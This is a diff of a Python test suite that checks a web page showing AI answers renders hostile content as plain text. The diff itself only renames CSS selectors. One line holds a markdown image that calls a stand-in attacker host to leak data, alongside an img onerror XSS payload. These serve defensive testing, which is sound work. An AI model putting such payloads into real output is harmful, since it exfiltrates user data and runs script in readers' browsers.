@@ -9,7 +9,7 @@ from tests.support.openai_replies import Reply, answer
 from tests.support.visit import Visiting
 
 LINKS = "[...document.querySelectorAll('main a:not(.citation)')].map(a => a.href)"
-ELEMENTS = "[...new Set([...document.querySelectorAll('#answer *')].map(each => each.tagName))].sort()"
+ELEMENTS = "[...new Set([...document.querySelectorAll('.answer *')].map(each => each.tagName))].sort()"
 
 
 @pytest.mark.fault("active-content")
@@ -19,7 +19,7 @@ def test_a_hostile_answer_is_inert(pieces: str, visiting: Visiting) -> None:
     with visiting(reply) as visit:
         visit.ask_and_wait("What does the pirate say?")
         page = visit.page
-        shown = page.text("#answer")
+        shown = page.text(".answer")
         seen = page.seen()
 
         assert [markup for markup in HOSTILE_HTML if unescape(markup) not in shown] == []
@@ -47,7 +47,7 @@ def test_hostile_documents_and_names_are_shown_as_text(visiting: Visiting) -> No
         assert "docs/pirategnp.md" in names
         excerpt_text = f"![x](http://{ATTACKER}/?leak), <img src=x onerror=alert(2)> and x"
         assert any(excerpt_text in excerpt.replace("`", "") for excerpt in page.texts(".source .excerpt"))
-        assert page.value("document.querySelectorAll('#result :is(img, script, svg, iframe, b)').length") == 0
+        assert page.value("document.querySelectorAll('#conversation :is(img, script, svg, iframe, b)').length") == 0
         assert [request for request in seen.requests if not request.startswith(visit.url)] == []
         assert (seen.dialogs, seen.errors, seen.violations, seen.console) == ([], [], [], [])
 
@@ -57,7 +57,7 @@ def test_a_hostile_question_is_shown_as_text(visiting: Visiting) -> None:
     with visiting(answer("Yes.")) as visit:
         visit.ask_and_wait(question)
 
-        assert visit.page.text("#asked") == question
+        assert visit.page.text(".asked") == question
         assert visit.page.seen().dialogs == []
 
 
